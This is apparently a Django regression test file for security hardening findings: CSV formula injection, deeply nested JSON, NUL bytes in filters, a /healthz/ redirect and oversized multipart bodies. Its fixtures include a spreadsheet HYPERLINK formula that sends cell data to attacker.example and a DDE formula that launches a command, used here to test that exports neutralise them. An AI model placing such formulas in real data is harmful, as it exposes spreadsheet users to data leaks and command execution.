"""Hardening, round two (issue 13): what an outside attacker and a careless operator found.

Each test reproduces one finding and fails without its fix:
1. a formula in a topic's title or withdrawal note runs when the open-data CSV is opened;
9. deeply nested JSON answered an HTML 500;
10. a NUL byte in a query parameter answered 500 (API and admin list filters);
12. an activity's 6-digit check-in code could be guessed without limit;
13. /healthz/ redirected to HTTPS and HSTS preload/includeSubDomains were implied;
15. large anonymous multipart bodies were parsed whole on endpoints that take no file.
"""

import csv
import io

import pytest
from django.test import override_settings

from core.spreadsheets import safe_cell
from deliberation import services as deliberation_services
from tests.fixtures.world import Flow

pytestmark = pytest.mark.django_db

OPEN_DATA = "/api/v1/open-data/decisions/"
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def flow(world, time_machine):
    return Flow(world, time_machine)


# 1. Formula injection
def test_open_data_csv_writes_formulas_as_text(api_client, flow):
    topic = flow.raise_topic(title=HYPERLINK)
    deliberation_services.topic_withdraw(actor=flow.w.author, topic=topic, note=DDE)
    response = api_client.get(OPEN_DATA, {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    row = next(row for row in rows if HYPERLINK in row["title"])
    assert row["title"] == "'" + HYPERLINK
    assert row["outcome_reason"] == "'" + DDE
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value
    # JSON is data, not a spreadsheet: the title stays as it was typed.
    titles = [item["title"] for item in api_client.get(OPEN_DATA).json()["results"]]
    assert HYPERLINK in titles


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("更换楼道灯", "更换楼道灯"),
        (-3, -3),
        (None, None),
    ],
)
def test_one_spreadsheet_safety_rule(value, expected):
    assert safe_cell(value) == expected


def test_every_export_uses_the_one_helper():
    from civic import dashboard_tables, opendata
    from surveys import exports

    assert exports.cell is safe_cell
    assert dashboard_tables.spreadsheet_safe is safe_cell
    assert opendata.safe_row.__module__ == "core.spreadsheets"


# 9. Deeply nested JSON
DEEP = "[" * 5000


@pytest.mark.parametrize(
    ("method", "path", "logged_in"),
    [("post", "/api/v1/auth/token/", False), ("post", "/api/v1/auth/sms-code/", False), ("patch", "/api/v1/me/", True)],
)
def test_deeply_nested_json_is_a_json_400(api_client, resident, method, path, logged_in):
    if logged_in:
        api_client.force_authenticate(resident)
    response = getattr(api_client, method)(path, DEEP, content_type="application/json", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert "nested too deeply" in response.json()["detail"]


def test_deep_json_to_an_endpoint_that_takes_files(api_client, staff):
    api_client.force_authenticate(staff)
    response = api_client.post("/api/v1/announcements/", DEEP, content_type="application/json")
    assert response.status_code == 400 and response["Content-Type"].startswith("application/json")


# 10. NUL bytes in query parameters
def test_a_nul_byte_in_an_api_filter_is_a_json_400(api_client, resident):
    api_client.force_authenticate(resident)
    for query in ("kind=%00x", "%00=1"):
        response = api_client.get(f"/api/v1/notifications/?{query}", HTTP_ACCEPT_LANGUAGE="en")
        assert response.status_code == 400, query
        assert "NUL" in response.json()["detail"]
    assert api_client.get("/api/v1/notifications/?kind=x").status_code in (200, 400)


@pytest.mark.parametrize(
    "url",
    [
        "/admin/deliberation/topic/?step__exact=%00x",
        "/admin/communities/user/?q=%00",
        "/admin/surveys/activity/?o=%00",
        "/topics/?q=%00x",
    ],
)
def test_a_nul_byte_in_a_page_or_admin_filter_is_a_400(client, admin_user, url):
    client.force_login(admin_user)
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert "This request cannot be read" in response.content.decode()


# 13. /healthz/ over plain http under CIVIC_HTTPS, HSTS extras opt-in
@override_settings(SECURE_SSL_REDIRECT=True)
def test_healthz_is_not_redirected_to_https(client):
    assert client.get("/healthz/").status_code == 200
    assert client.get("/").status_code == 301  # everything else still is


def test_hsts_preload_and_subdomains_are_opt_in():
    import os
    import subprocess
    import sys

    from django.conf import settings

    code = "from django.conf import settings as s; print(s.SECURE_HSTS_SECONDS, s.SECURE_HSTS_PRELOAD, s.SECURE_HSTS_INCLUDE_SUBDOMAINS)"
    base = {key: value for key, value in os.environ.items() if not key.startswith("SECURE_HSTS")}
    base.update(DJANGO_SETTINGS_MODULE="civic.settings", DEBUG="1", CIVIC_HTTPS="1")

    def run(**env):
        result = subprocess.run(
            [sys.executable, "-c", f"import django; django.setup(); {code}"],
            cwd=settings.BASE_DIR, env={**base, **env}, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        return result.stdout.split()

    assert run() == ["31536000", "False", "False"]
    assert run(SECURE_HSTS_PRELOAD="1", SECURE_HSTS_INCLUDE_SUBDOMAINS="1") == ["31536000", "True", "True"]


# 15. Large bodies on endpoints that take no file
def _multipart(size):
    boundary = "civicboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="username"\r\n\r\nnobody\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="blob"; filename="x.bin"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    return head + b"\0" * size + tail, f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize("path", ["/api/v1/auth/token/", "/api/v1/auth/signup/", "/api/v1/auth/sms-code/"])
def test_a_large_anonymous_multipart_body_is_refused_before_parsing(api_client, path, monkeypatch):
    from rest_framework import parsers

    parsed = []
    original = parsers.MultiPartParser.parse
    monkeypatch.setattr(parsers.MultiPartParser, "parse", lambda *a, **k: parsed.append(1) or original(*a, **k))
    from django.conf import settings

    body, content_type = _multipart(settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1024)
    response = api_client.post(path, body, content_type=content_type, HTTP_ACCEPT_LANGUAGE="en")
    # These take JSON only (issue 15): a multipart body is refused for its type, unread.
    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"
    assert not parsed


def test_a_large_json_body_is_refused_before_reading(api_client):
    from django.conf import settings

    body = '{"username": "' + "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10) + '", "password": "y"}'
    response = api_client.post("/api/v1/auth/token/", body, content_type="application/json")
    assert response.status_code == 413 and response["Content-Type"].startswith("application/json")


def test_endpoints_that_take_files_still_take_them(api_client, staff):
    """An announcement with a file above the form-field limit is still judged by the upload limit."""
    from django.conf import settings
    from django.core.files.uploadedfile import SimpleUploadedFile

    api_client.force_authenticate(staff)
    big = SimpleUploadedFile(
        "plan.pdf", b"%PDF-1.4\n" + b"0" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1024), "application/pdf"
    )
    response = api_client.post("/api/v1/announcements/", {"title": "停水通知", "files": [big]}, format="multipart")
    assert response.status_code != 413, response.content


@pytest.mark.django_db
def test_an_activitys_action_addresses_lead_back_to_the_activity_on_a_get(client):
    """A reload, or the language switch coming back to an action's address, finds the activity
    page rather than a blank 405."""
    for action in ("sign-up", "cancel", "check-in", "attendance", "rate"):
        response = client.get(f"/activities/7/{action}/")
        assert response.status_code == 302 and response["Location"] == "/activities/7/", action
